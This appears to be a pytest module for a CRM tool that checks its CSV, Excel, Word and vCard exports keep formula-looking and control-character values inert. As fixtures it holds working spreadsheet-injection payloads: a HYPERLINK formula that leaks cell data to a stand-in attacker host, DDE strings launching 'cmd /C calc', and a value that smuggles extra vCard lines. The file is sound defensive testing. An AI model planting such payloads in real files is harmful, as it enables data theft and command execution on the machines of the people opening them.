"""Hostile values never break an export for everyone (issue 11, item 9b).

People, interactions, an imported roster's extra column (its header too) and a county
plugin's report hold values a spreadsheet would run as formulas (``=HYPERLINK(…)``,
``@SUM(…)``, ``+852 …``, ``-2+3``, a leading tab or CR), characters XML cannot carry
and a note longer than an Excel cell. Every export and every report (built-in, the
liaison plugins', a county's), in every format, is written through the real CLI and read
back as the office opens it: with the csv module (a text cell that starts like a formula
carries a quote in front; a typed negative number does not) and with openpyxl (every
text cell is typed text, no cell is a formula), and each still has every row.
"""

from __future__ import annotations

import csv
import json
import re
import textwrap
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from crm_cli.main import run
from openpyxl import load_workbook

from crm_core import clock
from crm_core.app import Tongxin
from crm_core.cellsafe import FORMULA_TRIGGERS, XLSX_MAX_CELL
from crm_core.models import Interaction, Person
from crm_core.services import contacts, interactions

TODAY = datetime(2026, 10, 15, 4, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PLUS = "+852 9123 4567"
TAB = "\t=1+2"
CR = "\r=1+2"
HOSTILE = (FORMULA, DDE, AT, MINUS, PLUS, TAB, CR)
STORED = HOSTILE[:5]  # the service folds a leading tab or CR away: the report has them
NUMBER = re.compile(r"-\d[\d.,]*%?")  # a typed negative number, as the program formats it

PLUGIN = textwrap.dedent(
    '''
    """A county's report whose cells come straight from hostile data."""
    from crm_core import hookimpl
    from crm_core.reports import Column, ReportSpec, ReportTable, Section

    HOSTILE = {hostile!r}


    def hostile(unit, period):
        cols = [
            Column("text", "=表头()", "=Header()"),
            Column("count", "次数", "Count", "int"),
            Column("share", "占比", "Share", "percent"),
            Column("names", "名单", "Names", "list"),
        ]
        rows = [
            {{"text": v, "count": -5, "share": -0.25, "names": [v, "张三"]}} for v in HOSTILE
        ] + [{{"text": "控制\\x01字符\\x1b[31m", "count": 0, "share": 0.0, "names": []}}]
        section = Section("bad", "=SUM(A1)", "=SUM(A1)", cols, rows, "@注释", "@note")
        return ReportTable([section], {{}})


    @hookimpl
    def register_reports(register):
        register(ReportSpec("hostile", "恶意报表", "Hostile", hostile))
    '''
).format(hostile=HOSTILE)


@pytest.fixture
def tx(
    db_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> Callable[..., tuple[int, str, str]]:
    """`tongxin --db URL ARGS...` with the liaison plugins and a county's plugin folder."""
    folder = tmp_path / "county-plugins"
    folder.mkdir()
    (folder / "hostile_report.py").write_text(PLUGIN, "utf-8")
    config = tmp_path / "office.toml"
    config.write_text(f'[plugins]\nfolders = ["{folder}"]\n', "utf-8")
    monkeypatch.setenv("TONGXIN_CONFIG", str(config))
    monkeypatch.setenv("TONGXIN_LOAD_PLUGINS", "heart_talks,union_liaison")
    monkeypatch.setenv("TONGXIN_NOW", TODAY.isoformat())

    def call(*args: str) -> tuple[int, str, str]:
        code = run(["--db", db_url, *args])
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return call


@pytest.fixture
def hostile_office(app: Tongxin, tx: Callable[..., tuple[int, str, str]], tmp_path: Path) -> int:
    """People and work full of formula-looking text; returns how many people."""
    clock.freeze(TODAY)
    # An imported roster: its unknown column (header and cells) is kept as extra data.
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["姓名", "性别", DDE])
        w.writerow(["赵六", "男", FORMULA])
        w.writerow(["钱七", "女", MINUS])
    code, _, err = tx("import", str(roster))
    assert code == 0, err
    with app.unit() as unit:
        ids = []
        for i, value in enumerate(STORED):
            p = contacts.create_person(
                unit,
                name=f"{'张王李刘陈杨黄'[i]}伟",
                employer=value,
                title=value,
                address=value,
                notes=value,
            )
            ids.append(p.id)
        formula_named = contacts.create_person(
            unit, name="@王五", employer=AT, categories=["non_party_member"]
        )
        ids.append(formula_named.id)
        for i, value in enumerate(STORED):
            interactions.log_interaction(
                unit,
                kind="meeting",
                people=[ids[i]],
                start=datetime(2026, 7, 2 + i, 2, 0, tzinfo=UTC),
                location=value,
                summary=value,
                notes=value,
            )
        legacy = interactions.log_interaction(
            unit,
            kind="note",
            people=[ids[0]],
            start=datetime(2026, 8, 1, 2, 0, tzinfo=UTC),
            summary="遗留数据",
        )
        unit.session.flush()
        # Data stored before the service refused such values: control characters and a
        # note longer than an Excel cell holds.
        person = unit.session.get(Person, ids[1])
        assert person is not None
        person.notes = "前\x01后\x1b[31m红"
        person = unit.session.get(Person, ids[2])
        assert person is not None
        person.title = "教授\rTEL;TYPE=CELL:110\nEND:VCARD\r\nBEGIN:VCARD\x07"
        row = unit.session.get(Interaction, legacy.id)
        assert row is not None
        row.notes = "长" * (XLSX_MAX_CELL + 5000)
    clock.freeze(None)
    with app.unit() as unit:
        return contacts.list_people(unit, limit=1000).total


def csv_table(path: Path) -> list[list[str]]:
    """The rows of a CSV the program wrote; fails on a cell a spreadsheet would run."""
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for r, row in enumerate(rows, 1):
        for j, cell in enumerate(row):
            if cell and cell[0] in FORMULA_TRIGGERS:
                assert NUMBER.fullmatch(cell), f"{path.name} row {r} column {j + 1}: {cell!r}"
    return rows


def xlsx_texts(path: Path) -> list[str]:
    """Every text cell of a workbook the program wrote; fails on a formula cell or a
    text cell not typed as text."""
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    assert len(cell.value) <= XLSX_MAX_CELL
                    texts.append(cell.value)
    return texts


def test_people_exports_keep_formulas_as_text_and_every_row(
    hostile_office: int, tx: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    out_csv, out_xlsx = tmp_path / "people.csv", tmp_path / "people.xlsx"
    for path in (out_csv, out_xlsx):
        code, _, err = tx("export", "people", "-o", str(path))
        assert code == 0, err
    rows = csv_table(out_csv)
    header, body = rows[0], rows[1:]
    assert len(body) == hostile_office
    assert "'" + DDE in header  # the roster's header came from the file: neutralised too
    cells = {c for r in body for c in r}
    for value in STORED:
        assert "'" + value in cells, value
    assert "'@王五" in {r[0] for r in body}
    assert "'" + FORMULA in cells and "'" + MINUS in cells  # the roster's extra cells
    texts = xlsx_texts(out_xlsx)
    for value in (*STORED, DDE, "@王五"):
        assert value in texts, value  # as typed: a typed string needs no quote
    assert "前\ufffd后\ufffd[31m红" in texts  # XML cannot carry \x01 or ESC
    ws = load_workbook(out_xlsx).active
    assert ws is not None and ws.max_row == hostile_office + 1
    # The CSV imports back to the same people, quotes taken off: nothing changes (the
    # two rows with control characters are refused, naming them).
    code, out, err = tx("import", str(out_csv), "--json")
    assert code == 4, err  # two rows refused: exit 4 (docs/cli-json.md)
    data = json.loads(out)
    totals = data["totals"]
    assert totals["unchanged"] == hostile_office - 2 and totals["refuse"] == 2
    assert totals["create"] == totals["update"] == 0
    reasons = " ".join(e["reason"] for e in data["errors"])
    assert "U+0001" in reasons and "U+0007" in reasons


def test_interaction_exports_keep_formulas_as_text_and_cut_huge_cells(
    hostile_office: int, tx: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"work{suffix}"
        code, _, err = tx(
            "export", "interactions", "--from", "2026-01-01", "--to", "2026-12-31", "-o", str(path)
        )
        assert code == 0, err
        if suffix == ".csv":
            rows = csv_table(path)
            assert len(rows) == 1 + len(STORED) + 1
            cells = {c for r in rows for c in r}
            assert all("'" + v in cells for v in STORED)
            assert "长" * (XLSX_MAX_CELL + 5000) in cells  # CSV has no cell limit: all of it
        else:
            texts = xlsx_texts(path)
            assert all(v in texts for v in STORED)
            (cut,) = [t for t in texts if t.startswith("长长")]
            assert len(cut) == XLSX_MAX_CELL and "cut to Excel's limit" in cut
            ws = load_workbook(path).active
            assert ws is not None and ws.max_row == 1 + len(STORED) + 1


def test_every_report_in_every_format_stays_data(
    hostile_office: int, tx: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    from docx import Document

    code, out, err = tx("report", "--list", "--json")
    assert code == 0, err
    codes = [r["code"] for r in json.loads(out)]
    assert {"coverage", "liaison", "talks", "briefings", "gatherings", "hostile"} <= set(codes)
    for report in codes:
        for suffix in (".csv", ".xlsx", ".docx"):
            path = tmp_path / f"{report}{suffix}"
            code, _, err = tx("report", report, "--year", "2026", "-o", str(path))
            assert code == 0, f"{report}{suffix}: {err}"
            if suffix == ".csv":
                rows = csv_table(path)
            elif suffix == ".xlsx":
                texts = xlsx_texts(path)
            else:
                doc = Document(str(path))
                cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
        if report == "coverage":  # the not-yet-contacted list names @王五
            assert any("'@王五" in c for r in rows for c in r)
        if report == "hostile":
            flat = [c for r in rows for c in r]
            assert "'=SUM(A1)" in flat and "'=表头()" in flat and "'@注释" in flat
            for value in HOSTILE:
                assert "'" + value in flat and f"'{value}、张三" in flat
            assert flat.count("-5") == len(HOSTILE) and flat.count("-25.0%") == len(HOSTILE)
            for value in HOSTILE:
                assert value in texts
            wb = load_workbook(tmp_path / "hostile.xlsx")
            ws = wb.worksheets[0]
            numbers = [c.value for r in ws.iter_rows() for c in r if isinstance(c.value, int)]
            assert numbers.count(-5) == len(HOSTILE)  # numbers stay numbers
            assert "控制\ufffd字符\ufffd[31m" in texts and "控制\ufffd字符\ufffd[31m" in cells
            assert all(v.replace("\r", "\n") in cells or v in cells for v in HOSTILE)


def test_the_import_errors_file_keeps_refused_formulas_inert(
    app: Tongxin, tx: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["姓名", "性别", "=来源()"])
        w.writerow(["孙八", DDE, FORMULA])  # refused: not a gender
        w.writerow(["周九", "男", "+1"])
    for suffix in (".csv", ".xlsx"):
        errors = tmp_path / f"errors{suffix}"
        code, out, err = tx("import", str(roster), "--errors", str(errors), "--json")
        assert code == 4, err  # one row refused: exit 4 (docs/cli-json.md)
        assert json.loads(out)["errors"][0]["value"] == DDE
        if suffix == ".csv":
            rows = csv_table(errors)
            assert rows[0][2] == "'=来源()" and rows[1][:3] == ["孙八", "'" + DDE, "'" + FORMULA]
            # Imported again (as the office does once it is corrected): the same values.
            code, out, err = tx("import", str(errors), "--json", "--dry-run")
            assert code == 4, err  # the same row still refused: exit 4
            assert json.loads(out)["errors"][0]["value"] == DDE
        else:
            texts = xlsx_texts(errors)
            assert DDE in texts and FORMULA in texts and "=来源()" in texts


def test_vcards_carry_no_line_a_value_smuggled_in(
    hostile_office: int, tx: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    path = tmp_path / "contacts.vcf"
    code, _, err = tx("export", "vcf", "-o", str(path))
    assert code == 0, err
    text = path.read_bytes().decode("utf-8")
    lines = text.replace("\r\n ", "").split("\r\n")  # unfolded
    assert lines.count("BEGIN:VCARD") == lines.count("END:VCARD") == hostile_office
    assert not any(line.startswith("TEL;TYPE=CELL:110") for line in lines)
    assert "TITLE:教授\\nTEL\\;TYPE=CELL:110\\nEND:VCARD\\nBEGIN:VCARD" in lines
    assert "\r" not in text.replace("\r\n", "") and "\x07" not in text
